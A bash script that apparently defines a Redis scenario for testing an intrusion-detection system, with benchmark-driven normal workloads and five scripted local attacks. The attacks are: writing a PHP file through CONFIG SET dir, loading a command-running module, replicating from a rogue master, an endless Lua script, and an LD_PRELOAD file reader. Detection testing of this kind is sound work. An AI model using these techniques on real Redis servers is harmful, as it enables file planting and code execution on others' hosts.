# shellcheck shell=bash
# SPDX-License-Identifier: GPL-3.0-or-later
# redis with an I/O thread, snapshots and an append-only file

REDIS_PORT=16379
REDIS_ROGUE_PORT=16380

srv_packages() {
	echo redis-server redis-tools gcc
}

rcli() {
	redis-cli -p "$REDIS_PORT" "$@"
}

rbench() {
	redis-benchmark -p "$REDIS_PORT" -q "$@" >/dev/null
}

srv_prepare() {
	mkdir -p "$W/data" "$W/www"
	cat >"$W/redis.conf" <<-END
	bind 127.0.0.1
	port $REDIS_PORT
	dir $W/data
	save 60 10000
	appendonly yes
	io-threads 2
	io-threads-do-reads yes
	logfile $W/data/redis.log
	# What careless set-ups allow, and what the attacks need.
	enable-protected-configs local
	enable-module-command local
	END
	cc -O1 -shared -fPIC -o "$W/module.so" "$EVAL_SRC/attacks/module.c"
	chown -R redis: "$W"
}

srv_start() {
	scoped redis /usr/bin/redis-server "$W/redis.conf"
	wait_for 10 redis_up
}

redis_up() {
	[ "$(rcli ping)" = PONG ]
}

srv_stop() {
	rcli shutdown save >/dev/null 2>&1
	wait_for 10 scope_empty || scope_end
}

redis_clients_meet() {	# publish and subscribe, block and be served
	timeout 2 redis-cli -p "$REDIS_PORT" subscribe news >/dev/null &
	rcli --raw blpop "list:$1" 2 >/dev/null &
	sleep 0.1
	rcli publish news "item $1" >/dev/null
	rcli rpush "list:$1" x >/dev/null
}

srv_learn() {
	local r=$1
	rbench -n 3000 -c "$(pick "$r" a 5 20 60)" -d 16 \
		-t "$(pick "$r" b set,get,incr,lpush,rpop sadd,hset,spop,lpop \
			zadd,zpopmin,rpush,get)"
	rbench -n 4000 -c "$(pick "$r" c 10 50 100)" -d "$(pick "$r" d 64 500)" \
		-r 10000 -t set,get -P "$(pick "$r" e 1 4 16)"
	rbench -n 1500 -c "$(pick "$r" f 2 5 15)" -t set,get \
		-d "$(pick "$r" g 3000 12000 70000)"
	rbench -n 60 -c 5 -t mset,lrange_100,lrange_500
	rcli eval 'for i=1,200 do redis.call("set","l:"..i,i) end' 0 >/dev/null
	rcli --raw keys 'l:*' >/dev/null
	rcli set "once:$r" v px 50 >/dev/null
	rcli config get maxmemory >/dev/null
	rcli info >/dev/null
	redis_clients_meet "$r"
	[ $((r % 3)) -ne 1 ] || rcli bgsave >/dev/null
	[ $((r % 4)) -ne 2 ] || rcli bgrewriteaof >/dev/null
	[ $((r % 5)) -ne 3 ] || rcli flushdb async >/dev/null
	[ $((r % 6)) -ne 5 ] || { srv_stop; srv_start; }
}

srv_normal() {
	rbench -n 6000 -c 35 -d 40 -t get,set,spop,zadd,lpop,rpush
	rbench -n 6000 -c 80 -d 300 -r 30000 -t set,get -P 3
	rbench -n 1500 -c 12 -d 9000 -t get,set
	rbench -n 200 -c 8 -t lrange_300,mset
	rcli eval 'local s=0 for i=1,500 do s=s+i end return s' 0 >/dev/null
	rcli --raw keys 'l:1*' >/dev/null
	rcli set "brief:$1" v px 20 >/dev/null
	rcli info >/dev/null
	rcli config get save >/dev/null
	redis_clients_meet "$1"
	[ $(($1 % 4)) -ne 2 ] || rcli bgsave >/dev/null
	[ $(($1 % 5)) -ne 4 ] || rcli bgrewriteaof >/dev/null
	[ $(($1 % 7)) -ne 3 ] || rcli flushall async >/dev/null
	[ $(($1 % 8)) -ne 6 ] || { srv_stop; srv_start; }
}

srv_warm() {
	rbench -n 300 -c 10 -t set,get
}

srv_attacks() {
	echo config-save module-load rogue-master lua-loop preload-read
}

attack_config_save() {	# a page written into a web server's tree
	mark
	rcli config set dir "$W/www" >/dev/null
	rcli config set dbfilename page.php >/dev/null
	rcli set page '<?php' >/dev/null
	rcli save >/dev/null
	rcli config set dir "$W/data" >/dev/null
	rcli config set dbfilename dump.rdb >/dev/null
}

attack_module_load() {	# the module runs a command as it is loaded
	mark
	rcli module load "$W/module.so"
}

attack_rogue_master() {	# data comes from a master of the attacker's
	redis-server --port "$REDIS_ROGUE_PORT" --save '' --daemonize yes \
		--dir /tmp --pidfile "$W/rogue.pid" >/dev/null
	wait_for 5 port_open "$REDIS_ROGUE_PORT"
	mark
	rcli replicaof 127.0.0.1 "$REDIS_ROGUE_PORT" >/dev/null
	sleep 2
	rcli replicaof no one >/dev/null
	redis-cli -p "$REDIS_ROGUE_PORT" shutdown nosave >/dev/null 2>&1
}

attack_lua_loop() {	# a script that never ends, until it is killed
	mark
	timeout 7 redis-cli -p "$REDIS_PORT" \
		eval 'while true do end' 0 >/dev/null &
	sleep 6
	rcli script kill >/dev/null
	wait $!
}

attack_preload_read() {
	srv_stop
	mark
	SCOPE_PRELOAD=$BIN/preload-read.so srv_start
	srv_warm
}
